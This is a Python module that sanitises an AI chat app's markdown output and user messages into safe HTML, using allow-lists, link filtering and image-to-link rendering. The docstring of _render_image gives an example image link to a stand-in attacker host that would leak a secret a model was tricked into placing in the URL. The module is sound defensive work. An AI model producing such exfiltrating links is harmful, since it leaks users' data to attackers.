"""Turns model output (markdown, hostile) and user messages (plain text) into safe HTML."""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Sequence

import nh3
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict
from pygments import highlight as pygments_highlight
from pygments.formatters import HtmlFormatter
from pygments.lexer import Lexer
from pygments.lexers import LEXERS, find_lexer_class_by_name
from pygments.token import STANDARD_TYPES

__all__ = [
    "ALLOWED_URL_SCHEMES",
    "highlight",
    "is_allowed_url",
    "render_markdown",
    "render_plain",
    "sanitise_html",
]

# Only these schemes may appear in an href. Relative URLs are refused too: a model has no
# business linking into our own site (`/accounts/logout/`), and `//host` is protocol-relative.
ALLOWED_URL_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)

# Code larger than this is shown escaped but not highlighted: pygments lexers are regex
# machines, and a hostile answer picks both the language and the text (ReDoS), so the cost of
# highlighting is capped per block.
HIGHLIGHT_MAX_CHARS = 64 * 1024

IMAGE_MARK = "\N{FRAME WITH PICTURE}"  # 🖼 — what an image link starts with

# pygments alias (lower case) -> the lexer's first alias, which names the `language-…` class.
_CANONICAL_ALIAS: dict[str, str] = {
    alias.lower(): aliases[0]
    for _module, _name, aliases, _files, _mimes in LEXERS.values()
    if aliases
    for alias in aliases
}
_LANG_LABEL_RE = re.compile(r"[^\w+#.\-]")

# No linenos, no wrapping: we write the <pre><code> ourselves; spans carry CSS classes only
# (the stylesheet is static/chat/highlight.css), never inline styles.
_FORMATTER = HtmlFormatter(nowrap=True)

# The sanitiser's allow-list. The markdown renderer below can only produce these tags, and
# raw HTML in the answer is shown as text (html=False); nh3 is the second, independent lock.
_ALLOWED_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6",
    "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "table", "thead", "tbody", "tr", "th", "td", "div", "span",
}  # fmt: skip
_ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "div": {"data-lang"}}
# `class` is never allowed as such: nh3 keeps only these exact class names per tag.
_ALLOWED_CLASSES = {
    "div": {"codeblock"},
    "pre": {"code"},
    "code": {f"language-{alias}" for alias in set(_CANONICAL_ALIAS.values())},
    "span": {cls for cls in STANDARD_TYPES.values() if cls},
    "th": {"align-left", "align-center", "align-right"},
    "td": {"align-left", "align-center", "align-right"},
}
_CLEANER = nh3.Cleaner(
    tags=_ALLOWED_TAGS,
    clean_content_tags={"script", "style"},
    attributes=_ALLOWED_ATTRIBUTES,
    allowed_classes=_ALLOWED_CLASSES,
    url_schemes=set(ALLOWED_URL_SCHEMES),
    url_relative="deny",
    # Links open in a new tab so following one never tears down the chat's websocket.
    link_rel="noopener noreferrer nofollow",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)


def is_allowed_url(url: str) -> bool:
    """True when `url` (as markdown-it normalised it) is absolute http(s) or mailto."""
    match = _SCHEME_RE.match(url.strip())
    return match is not None and match.group(1).lower() in ALLOWED_URL_SCHEMES


@functools.lru_cache(maxsize=64)  # keyed by canonical alias only: bounded by pygments itself
def _lexer_class(canonical_alias: str) -> type[Lexer]:
    return find_lexer_class_by_name(canonical_alias)


def highlight(code: str, lang: str, attrs: str = "") -> str:
    """markdown-it's `highlight` hook: a `<pre class="code"><code>` block, pygments spans inside.

    Unknown languages (and very large blocks) are escaped plainly, without a language class.
    """
    canonical = _CANONICAL_ALIAS.get(lang.strip().lower())
    if canonical is None or len(code) > HIGHLIGHT_MAX_CHARS:
        return f'<pre class="code"><code>{html.escape(code, quote=False)}</code></pre>'
    # stripnl=False: leading blank lines are part of what the copy button copies.
    lexer = _lexer_class(canonical)(stripnl=False)
    spans = pygments_highlight(code, lexer, _FORMATTER)
    return f'<pre class="code"><code class="language-{canonical}">{spans}</code></pre>'


def _lang_label(info: str) -> str:
    """The first word of a fence's info string, reduced to a short, inert label."""
    words = info.split(maxsplit=1)
    return _LANG_LABEL_RE.sub("", words[0])[:32] if words else ""


def _codeblock(code: str, lang: str) -> str:
    # The wrapper is what the UI hangs its copy button (and language label) on.
    return f'<div class="codeblock" data-lang="{escapeHtml(lang)}">{highlight(code, lang)}</div>\n'


def _render_fence(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    token = tokens[idx]
    # Decode backslash escapes and entities as markdown-it does before reading the label.
    return _codeblock(token.content, _lang_label(unescapeAll(token.info)))


def _render_code_block(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    # Indented code gets the same wrapper (and copy button) as fenced code.
    return _codeblock(tokens[idx].content, "")


def _render_image(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """An image becomes a link to it (or just its alt text): never an `<img>` that loads.

    An image loads without a click, so `![](https://attacker/?q=<secret>)` would exfiltrate
    whatever the model was tricked into putting in the URL.
    """
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = str(token.attrGet("src") or "")
    if not is_allowed_url(src):
        return escapeHtml(alt)
    title = token.attrGet("title")
    title_attr = f' title="{escapeHtml(str(title))}"' if title else ""
    label = escapeHtml(alt) or "image"
    return f'<a href="{escapeHtml(src)}"{title_attr}>{IMAGE_MARK} {label}</a>'


_ALIGN_STYLE_RE = re.compile(r"^text-align:(left|center|right)$")


def _apply_answer_policy(state: StateCore) -> None:
    """Core rule after inline parsing: drop disallowed links, turn table `style` into classes.

    A link whose URL is not allowed keeps its text and loses the anchor (rather than
    showing `[text](javascript:…)` verbatim); this one rule is the whole link policy because
    `validateLink` below lets everything through to it.
    """
    for token in state.tokens:
        if token.type in ("th_open", "td_open"):
            align = _ALIGN_STYLE_RE.match(str(token.attrGet("style") or ""))
            token.attrs = {"class": f"align-{align.group(1)}"} if align else {}
        elif token.type == "inline" and token.children:
            dropped: list[bool] = []  # links cannot nest in CommonMark, but be exact anyway
            for child in token.children:
                if child.type == "link_open":
                    drop = not is_allowed_url(str(child.attrGet("href") or ""))
                    dropped.append(drop)
                    child.hidden = drop
                elif child.type == "link_close":
                    child.hidden = dropped.pop() if dropped else True


def _build_markdown() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark",
        # html=False: raw HTML in an answer is shown as text, never passed through.
        {"html": False, "linkify": False, "typographer": False, "highlight": highlight},
    ).enable(["table", "strikethrough"])
    # markdown-it's own validateLink is a blocklist (javascript:, vbscript:, file:, most
    # data:); ours is an allow-list applied in _apply_answer_policy and _render_image, so every
    # link reaches it. nh3 then enforces the same schemes a second time.
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    md.core.ruler.push("answer_policy", _apply_answer_policy)
    md.add_render_rule("fence", _render_fence)
    md.add_render_rule("code_block", _render_code_block)
    md.add_render_rule("image", _render_image)
    return md


# One parser for the process: MarkdownIt.render keeps no state between calls.
_MARKDOWN = _build_markdown()


def sanitise_html(fragment: str) -> str:
    """Run an HTML fragment through the allow-list (also used directly by the XSS tests)."""
    return _CLEANER.clean(fragment)


def render_markdown(text: str) -> str:
    """An assistant answer (markdown from the model) as sanitised HTML."""
    return sanitise_html(_MARKDOWN.render(text))


def render_plain(text: str) -> str:
    """A user's message as HTML: escaped, nothing else.

    Newlines stay as newline characters; the bubble shows them with `white-space: pre-wrap`
    (so pasted code keeps its spaces too, and copying the bubble gives back what was typed).
    """
    return html.escape(text, quote=True)
